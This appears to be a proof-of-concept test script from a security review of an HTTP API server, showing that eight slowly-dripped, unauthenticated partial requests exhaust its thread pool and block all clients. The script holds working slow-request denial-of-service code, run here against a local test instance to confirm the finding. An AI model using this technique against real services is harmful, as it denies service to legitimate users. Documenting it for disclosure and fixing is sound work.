#!/usr/bin/env python3
"""T5. Eight half-sent requests, no token needed, stop the whole API.

http_api.h:32 serves on a pool of 8 threads (HttpOptions::threads, no flag to change it);
cpp-httplib gives a connection one thread for its whole life and only times out a single
recv (5 s), never a whole request; the token is checked in the pre-routing handler, AFTER the
request line and headers were read (http_api.cc:206-212). So a client that opens 8 connections and
sends one header line every 2 s holds every thread indefinitely: trainers get connection
timeouts (their client then retries and raises: adapters crash the step). Works against a
--host 0.0.0.0 service with a token from anyone who reaches the port.
Shown: /v1/health during the attack (20 s curl limit) and after."""
import sys; sys.dont_write_bytecode = True
import socket, subprocess, threading, time
from _serve import Serve

s = Serve(env={"PTXBENCH_SERVE_TOKEN": "a-token-nobody-here-knows-0123456789"})
socks = []
for _ in range(8):
    c = socket.create_connection(("127.0.0.1", s.port))
    c.send(b"POST /v1/jobs HTTP/1.1\r\n")
    socks.append(c)
stop = [False]
def drip():
    while not stop[0]:
        for c in socks:
            c.send(b"X-Slow: 1\r\n")
        time.sleep(2)
threading.Thread(target=drip, daemon=True).start()
time.sleep(1)
def curl():
    t = time.time()
    r = subprocess.run(["curl", "-s", "-m", "20", "-o", "/dev/null", "-w", "%{http_code}",
                        s.url + "/v1/health"], capture_output=True, text=True)
    return r.stdout, time.time() - t
during = curl()
stop[0] = True
for c in socks:
    c.close()
time.sleep(0.5)
after = curl()
print(f"during: http {during[0]} after {during[1]:.1f}s; after closing: http {after[0]} in {after[1]:.2f}s")
print("WORKS" if during[0] == "000" and after[0] == "200" else "does not reproduce")
s.stop()
